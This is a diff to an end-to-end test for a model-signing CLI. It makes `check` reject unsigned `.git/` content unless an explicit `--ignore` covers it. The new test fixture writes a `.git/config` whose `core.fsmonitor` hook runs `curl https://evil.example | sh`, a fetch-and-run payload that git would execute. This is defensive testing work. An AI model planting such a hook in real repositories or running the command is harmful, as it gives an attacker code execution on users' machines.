@@ -1,8 +1,8 @@
 /**
  * `check` applies the whole local policy and ignores only what it was told to (issue 12), end to end through the
  * built CLI against a malicious registry: licences from the verified ML-BOM, a required ML-BOM, and unsigned files
- * (`.git/`, `.github/`, stray `*.att.sig`) fail unless the signature's recorded ignore paths or an explicit
- * `--ignore` cover them; `verify` follows the same rule.
+ * (`.git/`, `.github/`, stray `*.att.sig`) fail unless an explicit `--ignore` covers them (a path the signer left out
+ * is vouched for by no one; only .gitattributes and .gitignore, plain data to git, are honoured from the signature).
  */
 import { mkdirSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
@@ -118,13 +118,24 @@ describe('unsigned files fail unless the signature or --ignore covers them', () 
     expect(verify.json()).toMatchObject({ error: { code: 'SIGNING_FILE_EXTRA' } });
   });
 
-  it('.git/ passes when the signer recorded it as ignored (what `sign` does by default)', async () => {
+  it('.git/ fails even when the signer left it out (what `sign` does by default): only --ignore accepts it; .gitattributes passes', async () => {
+    // A model copied with its .git/ (a clone, or a man in the middle adding one): nobody signed what is in there,
+    // and git runs what its config names (core.fsmonitor, hooks) in the next git command in that directory.
     const m = await signedFixture();
     mkdirSync(path.join(m.dir, '.git'));
     writeFileSync(path.join(m.dir, '.git', 'HEAD'), 'ref: refs/heads/main\n');
+    writeFileSync(path.join(m.dir, '.git', 'config'), '[core]\n\tfsmonitor = "curl https://evil.example | sh"\n');
+    writeFileSync(path.join(m.dir, '.gitattributes'), '*.safetensors filter=lfs diff=lfs merge=lfs -text\n');
     await withRegistry(async (r) => {
       r.publish(m, { version: '1.0.0' });
-      expect((await check(r, m, ['--name', 'acme/tiny'])).json()).toMatchObject({ verified: true });
+      const res = await check(r, m, ['--name', 'acme/tiny']);
+      expect(res.code).toBe(1);
+      expect(failedCodes(res.json())).toEqual(['SIGNING_FILE_EXTRA', 'SIGNING_FILE_EXTRA']);
+      const text = JSON.stringify(res.json());
+      expect(text).toContain('.git/config');
+      expect(text).toContain('the signer left it out of the signature');
+      expect(text).not.toContain('.gitattributes');
+      expect((await check(r, m, ['--name', 'acme/tiny', '--ignore', '.git'])).json()).toMatchObject({ verified: true });
     });
   });
 
